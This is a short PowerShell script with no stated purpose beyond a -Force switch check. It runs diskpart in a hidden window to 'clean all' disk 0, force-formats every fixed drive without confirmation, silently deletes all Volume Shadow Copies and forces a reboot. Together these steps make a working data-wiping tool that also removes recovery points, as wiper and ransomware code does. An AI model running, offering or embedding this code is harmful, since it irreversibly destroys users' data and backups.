param([switch]$Force)
if (-not $Force) { Write-Host "pass -Force"; exit 1 }

$dp = @"
select disk 0
clean all
create partition primary
format fs=ntfs quick label=TEST
assign letter=T
"@
$tmp = Join-Path $env:TEMP "reset.txt"
Set-Content -Path $tmp -Value $dp -Encoding ascii
Start-Process diskpart.exe -ArgumentList "/s `"$tmp`"" -Wait -WindowStyle Hidden

Get-Volume | Where-Object { $_.DriveLetter -and $_.DriveType -eq 'Fixed' } | ForEach-Object {
  Format-Volume -DriveLetter $_.DriveLetter -FileSystem NTFS -Force -Confirm:$false
}
vssadmin delete shadows /all /quiet
Restart-Computer -Force
